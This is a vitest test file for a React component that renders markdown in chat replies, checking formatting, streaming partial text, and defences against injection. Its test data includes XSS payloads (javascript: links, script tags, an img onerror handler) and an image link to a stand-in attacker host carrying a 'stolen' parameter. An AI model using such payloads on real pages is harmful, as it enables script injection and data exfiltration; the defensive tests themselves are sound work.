import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import ReplyText from "../src/reply/ReplyText";
import { spoken } from "../src/reply/spoken";

const drawn = (text: string, isWritten = true) =>
  renderToStaticMarkup(<ReplyText text={text} isWritten={isWritten} />).replace(/^<div class="reply-text">|<\/div>$/g, "");

describe("a reply's text", () => {
  test("is drawn with its headings, lists, tables and code", () => {
    expect(drawn("# Big\n\nSome **bold** and *soft* `code`")).toBe(
      '<h2 dir="auto">Big</h2><p dir="auto">Some <strong>bold</strong> and <em>soft</em> <code>code</code></p>',
    );
    expect(drawn("3. three\n4. four")).toBe('<ol start="3"><li dir="auto">three</li><li dir="auto">four</li></ol>');
    expect(drawn("- [x] done\n- [ ] open")).toContain('<input type="checkbox" disabled="" aria-label="Task" checked=""/>');
    expect(drawn("| a | b |\n|---|--:|\n| 1 | 2 |")).toContain('<td dir="auto" style="text-align:right">2</td>');
    expect(drawn("```js\nif (a < b) {}\n```")).toContain('<code dir="ltr">if (a &lt; b) {}</code>');
  });

  test("never loads a picture of another host, and offers it as a link", () => {
    const text = drawn("![secret](https://evil.example/x.png?stolen=1)");
    expect(text).not.toContain("<img");
    expect(text).toContain('<a href="https://evil.example/x.png?stolen=1" target="_blank"');
  });

  test.each([
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html,<script>1</script>)",
    "[a](vbscript:x)",
    "[a](/relative)",
    "![a](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
  ])("has no unsafe link: %s", (text) => {
    expect(drawn(text)).not.toMatch(/<a /);
  });

  test.each(["<script>alert(1)</script>", "a <img src=x onerror=alert(1)> b", "<iframe src='https://x.example'>"])(
    "shows HTML as the text it is: %s",
    (text) => {
      expect(drawn(text)).not.toMatch(/<(script|img|iframe)/);
      expect(drawn(text)).toContain("&lt;");
    },
  );

  test("keeps safe links, apart from this page", () => {
    expect(drawn("[site](https://example.org/a?b=1&c=2)")).toBe(
      '<p dir="auto"><a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">site</a></p>',
    );
  });

  test("reads character references", () => {
    expect(drawn("Tom &amp; Jerry &lt;3 &#8364; &nope;")).toBe('<p dir="auto">Tom &amp; Jerry &lt;3 € &amp;nope;</p>');
  });

  test("closes open marks while it is still written, and only then", () => {
    expect(drawn("this is **bo", false)).toBe('<p dir="auto">this is <strong>bo</strong></p>');
    expect(drawn("this is **bo")).toBe('<p dir="auto">this is **bo</p>');
    expect(drawn("see [the docs](https://exa", false)).toBe('<p dir="auto">see the docs</p>');
  });

  test("holds at every length of a growing reply", () => {
    const whole = "# T\n\n- a **b** [c](https://x.example)\n\n```py\nx = 1\n```\n\n| a |\n|---|\n| `1` |\n\n> q ~~d~~ ![i](https://x.example/i.png)";
    for (let end = 0; end <= whole.length; end += 1) expect(drawn(whole.slice(0, end), false)).not.toContain("<img");
  });
});

test("a reply is spoken without its marks", () => {
  const text = "# Towers\n\nThe **Pharos** is *old*, see [the page](https://x.example).\n\n- one\n- 2 * 3 * 4\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```py\nx = 1\n```";
  expect(spoken(text)).toBe("Towers\nThe Pharos is old, see the page.\none\n2 * 3 * 4\na, b\n1, 2\nx = 1");
});
